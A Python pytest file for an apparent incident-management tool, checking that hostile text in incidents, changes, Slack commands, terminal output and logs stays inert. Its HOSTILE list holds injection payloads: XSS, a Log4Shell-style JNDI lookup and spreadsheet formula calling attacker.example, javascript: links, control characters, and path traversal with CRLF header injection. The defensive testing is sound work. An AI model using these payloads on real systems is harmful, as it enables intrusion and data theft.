"""Claims about untrusted text: whatever people, alarms, logs and vendors write is data in every place that shows it."""

import json
import logging
import re
from dataclasses import replace
from datetime import timedelta
from html.parser import HTMLParser

import pytest

from deadair.adapters.dynamodb import keys
from deadair.adapters.dynamodb.changes import ChangeStore
from deadair.adapters.dynamodb.diagnoses import diagnosed_fields
from deadair.adapters.dynamodb.incidents import incident_item
from deadair.adapters.dynamodb.items import to_item
from deadair.adapters.dynamodb.standing_errors import StandingErrors
from deadair.adapters.slack.mrkdwn import WORD_JOINER
from deadair.domain.alarm import AlarmState
from deadair.domain.alarm_on_incident import AlarmOnIncident
from deadair.domain.change import Kind, Teller, a_change
from deadair.domain.diagnosed import Confidence, Diagnosed, LogError, NearChange
from deadair.domain.escalation import Escalation, Rung, Told
from deadair.domain.holding import Hold
from deadair.domain.incident import Incident
from deadair.domain.ownership import Person
from deadair.domain.severity import FailureClass
from deadair.domain.standing_error import Kind as Wrong
from deadair.domain.visible import MISLEADING
from deadair.telemetry import speak
from infra.cli import incident_words
from infra.local.slack.workspace import Draft, check_draft
from tests.builders import an_incident
from tests.rooms.slack_rooms import Neighbours, SlackRoom, neighbours, room
from tests.rooms.web_room import read, send, web
from tests.rooms.web_site import NOW
from web.surroundings import Surroundings

__all__ = ["neighbours", "room", "web"]
pytestmark = pytest.mark.stack

HOSTILE = (
    '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "<!channel> <@U0ANA> <https://attacker.example|click> *b* `c`",
    "{{ 7*7 }}{% include 'x' %}${jndi:ldap://attacker.example}",
    '=HYPERLINK("https://attacker.example")',
    "[click](javascript:alert(1)) ![x](https://attacker.example/x.png)",
    "---\nid: INC-1\n---\n# Heading",
    "\x1b[31mred\x1b[0m\x07 \u202eesrever\u202c \u2066x\u2069 \x00\x85",
    "../../../etc/passwd\r\nSet-Cookie: a=b",
    "x" * 2000,
)
EVERYTHING = "\n".join(HOSTILE[:8])
ACTIVE = {"script", "iframe", "object", "embed", "base", "meta", "link", "svg", "math", "style"}


class Watching(HTMLParser):
    """What a browser would make of a page: its tags and attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def harmless(html: str, quiet: str) -> None:
    """The page has exactly the elements of a page with quiet texts: no tag, handler or address came from a text.

    And nothing in it hides, or turns a line around.
    """
    assert not MISLEADING.search(html)
    seen, usual = Watching(), Watching()
    seen.feed(html)
    usual.feed(quiet)
    assert not [attrs for _, attrs in seen.tags if any(name.startswith("on") for name in attrs)]
    assert not [attrs for _, attrs in seen.tags for value in attrs.values() if re.match(r"\s*javascript:", value or "")]
    for tag in ACTIVE | {"img", "a"}:
        assert sum(t == tag for t, _ in seen.tags) == sum(t == tag for t, _ in usual.tags), tag


def diagnosed(text: str) -> Diagnosed:
    return Diagnosed(
        failure_class=FailureClass.AUTH,
        confidence=Confidence.HIGH,
        evidence=(text,),
        log_errors=(LogError(text, 3),),
        logs_note=text,
        last_good_at=NOW - timedelta(hours=1),
        missed_records=7,
        missed_why=text,
        affected=(text,),
        process=text,
        campaigns=(text,),
        changes=(NearChange(NOW - timedelta(hours=2), text, text, text),),
        looked_at=NOW,
    )


def an_incident_of(text: str, number: int) -> Incident:
    """An incident with the text wherever text may stand."""
    at, hold = NOW - timedelta(hours=1), Hold(NOW + timedelta(hours=1), text, text)
    person = Person(text, f"{text}@example.com")
    return an_incident(
        number,
        integration_name=text,
        owner=person,
        owner_note=text,
        runbook=text,
        fix=text,
        alarms={
            "k": AlarmOnIncident(text, AlarmState.ALARM, at, at),
            "l": AlarmOnIncident(text, AlarmState.OK, at, at),
        },
        acknowledged_by=text,
        snooze=hold,
        maintenance=hold,
        escalation=Escalation((Told(person, Rung.DEPUTY, at, text),), unreachable=at),
    )


def kept(web: Surroundings, text: str, number: int) -> None:
    store = web.incidents
    store.client.put_item(TableName=store.table, Item=incident_item(an_incident_of(text, number)))
    found = keys.diagnosis(number) | to_item(diagnosed_fields(diagnosed(text)))
    store.client.put_item(TableName=store.table, Item=found)


@pytest.mark.parametrize("place", range(len(HOSTILE)))
def test_fault_36_nothing_that_was_found_or_said_acts_on_an_incidents_page(web: Surroundings, place: int) -> None:
    kept(web, HOSTILE[place], 900 + place)
    kept(web, "quiet", 950)

    answer = read(web, f"/incidents/{900 + place}")
    assert answer["statusCode"] == 200
    harmless(answer["body"], read(web, "/incidents/950")["body"])

    told = read(web, f"/incidents/{900 + place}.json")["body"]
    assert "<" not in told
    assert json.loads(told)["diagnosis"]["process"] == diagnosed_fields(diagnosed(HOSTILE[place]))["process"]


STEPS: dict[str, dict[str, str]] = {
    "note": {"text": EVERYTHING},
    "sev": {"severity": "SEV1", "text": EVERYTHING[:400]},
    "cause": {"class": "auth", "text": EVERYTHING[:900]},
    "snooze": {"for": "30m", "text": EVERYTHING[:400]},
    "milestone": {"milestone": "started", "at": "2026-11-20T18:00", "reason": EVERYTHING[:900]},
    "merge": {"into": EVERYTHING},
    "split": {"alarm-1": EVERYTHING},
    "check": {"check": EVERYTHING},
    "assign": {"owner": EVERYTHING},
    "false-alarm": {"text": EVERYTHING[:400]},
}


def test_fault_36_no_reason_of_a_step_acts_on_the_page_that_tells_it(web: Surroundings) -> None:
    for number, word in ((960, ""), (961, "quiet")):
        store = web.incidents
        store.client.put_item(TableName=store.table, Item=incident_item(an_incident(number)))
        for step, fields in STEPS.items():
            said = {name: word if word and value in EVERYTHING else value for name, value in fields.items()}
            answer = send(web, f"/incidents/{number}/{step}", said)
            assert answer["statusCode"] in {303, 404, 422}, step
            assert "\n" not in answer["headers"].get("Location", "")

    harmless(read(web, "/incidents/960")["body"], read(web, "/incidents/961")["body"])


def test_fault_36_a_maintenance_reason_and_a_change_are_data_on_an_integrations_page(web: Surroundings) -> None:
    slug, changes = "hubspot-salesforce", ChangeStore(web.client("dynamodb"), web.settings.incidents_table)
    quiet = read(web, f"/integrations/{slug}")["body"]
    for text in HOSTILE:
        change = a_change(slug, NOW, Kind.DEPLOY, text, by=text, source=Teller.PERSON, url="javascript:alert(1)")
        assert changes.add(change, NOW)
    assert (
        send(web, f"/integrations/{slug}/maintenance", {"for": "1h", "reason": EVERYTHING[:400]})["statusCode"] == 303
    )

    harmless(read(web, f"/integrations/{slug}")["body"], quiet)


def test_fault_36_a_standing_error_is_data_on_every_page(web: Surroundings) -> None:
    errors = StandingErrors(web.client("dynamodb"), web.settings.incidents_table)
    fresh = replace(web)
    quiet = read(fresh, "/incidents")["body"]
    errors.put(Wrong.UNDELIVERED, HOSTILE[0], HOSTILE[0], NOW)
    try:
        body = read(replace(web), "/incidents")["body"]
    finally:
        errors.clear(Wrong.UNDELIVERED, HOSTILE[0])

    assert "&lt;script&gt;alert(1)" in body
    harmless(body, quiet)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "typed",
    [
        "sev {n} 1 {t}",
        "cause {n} auth {t}",
        "snooze {n} 30m {t}",
        "false-alarm {n} {t}",
        "split {n} {t}",
        "merge {n} into {t}",
    ],
)
def test_fault_36_no_word_of_a_command_calls_anybody_or_leads_anywhere(
    room: SlackRoom, neighbours: Neighbours, typed: str, text: str
) -> None:
    incident = neighbours.add()
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")[:400]

    body = json.loads(room.command(typed.format(n=incident.number, t=escaped))["body"])

    check_draft(Draft(body["text"], body.get("blocks"), None, None), 4000)
    assert not MISLEADING.search(json.dumps(body, ensure_ascii=False).replace(WORD_JOINER, ""))
    assert not re.search(r"<[!@#]|<https?://attacker", json.dumps(body, ensure_ascii=False).replace("<!date^", ""))
    shown = json.loads(room.command(f"show {incident.number}")["body"])
    assert not re.search(r"<[!@#]|<https?://attacker", json.dumps(shown, ensure_ascii=False).replace("<!date^", ""))


@pytest.mark.parametrize("text", HOSTILE)
def test_g2_what_the_terminal_shows_is_one_line_and_moves_no_cursor(
    capsys: pytest.CaptureFixture[str], text: str
) -> None:
    incident = an_incident_of(text, 7)
    incident_words.print_list([incident], "open")
    incident_words.print_state(incident)
    incident_words.print_one(incident, [], "https://deadair.example")
    incident_words.print_one_json(incident, [])

    said = capsys.readouterr().out
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", said)


@pytest.mark.parametrize("text", HOSTILE)
def test_g2_a_log_line_is_one_line_and_holds_no_word_of_a_command(
    room: SlackRoom, neighbours: Neighbours, caplog: pytest.LogCaptureFixture, text: str
) -> None:
    incident, shape = neighbours.add(), speak("slack_commands").registered_formatter
    marked = f"zebra-{incident.number} {text[:200]}"

    with caplog.at_level(logging.INFO):
        room.command(f"sev {incident.number} 1 {marked}")
        room.command(f"zebra-{incident.number} {marked}")

    lines = [shape.format(record) for record in caplog.records if record.name.startswith("slack_commands")]
    assert lines
    assert all(isinstance(json.loads(line), dict) and len(line.splitlines()) == 1 for line in lines)
    assert not any(f"zebra-{incident.number}" in line for line in lines)
